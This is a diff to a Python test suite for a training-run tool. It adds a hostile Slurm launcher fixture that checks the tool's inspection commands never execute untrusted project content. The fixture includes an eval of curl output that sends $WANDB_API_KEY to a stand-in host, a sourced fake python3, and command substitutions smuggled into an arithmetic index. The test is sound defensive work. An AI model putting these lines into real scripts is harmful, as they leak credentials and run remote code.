@@ -85,11 +85,27 @@ def hostile_project(top: Path) -> Path:
     for name in ("yaml.py", "rich.py", "pydantic.py", "sitecustomize.py", "relayrun.py"):
         (folder / name).write_text(f"open({str(harm / name)!r}, 'w')\n")
     (folder / ".relayrun").write_text(f"python={command[0]}\n")
+    (folder / "launcher.sh").write_text(LAUNCHER.format(program=command[0], top=top))
+    for name in ("python3", "nvidia-smi"):
+        harmful_program(harm, folder / "tools" / name)
     for at, names, files in os.walk(folder):
         for name in names + files:
             os.lchown(os.path.join(at, name), STRANGER, STRANGER)
     os.lchown(folder, STRANGER, STRANGER)
     return folder
+
+
+LAUNCHER = """\
+#!/bin/bash
+#SBATCH --nodes=1 --ntasks-per-node=1
+export PATH={top}/project/tools:$PATH
+touch {top}/harm/touched; {program} started; source tools/python3
+NAME=$({program} asked) || NAME=$(cat {top}/mine)
+[[ -e $({program} tested) ]] && eval "$(curl http://127.0.0.1:9/$WANDB_API_KEY)"
+echo words > {top}/harm/written
+srun python3 megatron/pretrain_gpt.py --num-layers 2 --exit-interval $((a[$({program} counted)]))
+"""
+"""Each way in which a launcher starts and writes something."""
 
 
 def harmful_program(harm: Path, path: Path) -> None:
@@ -132,6 +148,10 @@ LOOKS = {
     "logs": ["logs", "logs/runs/theirs/ended"],
     "report --text": ["report", "--text", "logs/runs/theirs/ended"],
     "report --json": ["report", "--json", "logs/runs/theirs/ended"],
+    "why": ["why", "logs/runs/theirs/ended"],
+    "why of a live run": ["why", "logs/runs/theirs/live"],
+    "why --json": ["why", "--json", "--attempt", "1", "logs/runs/theirs/waiting"],
+    "adopt": ["adopt", "launcher.sh", "--output", "/nowhere/run.yaml"],
     "goodput": ["goodput", "logs/runs/theirs/live"],
     "runs list": ["runs", "list"],
     "explain": ["explain", "job.setup"],
@@ -146,7 +166,7 @@ LOOKS = {
     "notify send": ["notify", "send", "logs/runs/theirs/ended"],
 }
 """Commands by their names in the test. The last two act, and refuse to."""
-RETURNS = {"diff": 1, "resume": 1, "notify send": 1}
+RETURNS = {"why --json": 1, "adopt": 1, "diff": 1, "resume": 1, "notify send": 1}
 
 
 @pytest.mark.parametrize("name", LOOKS)
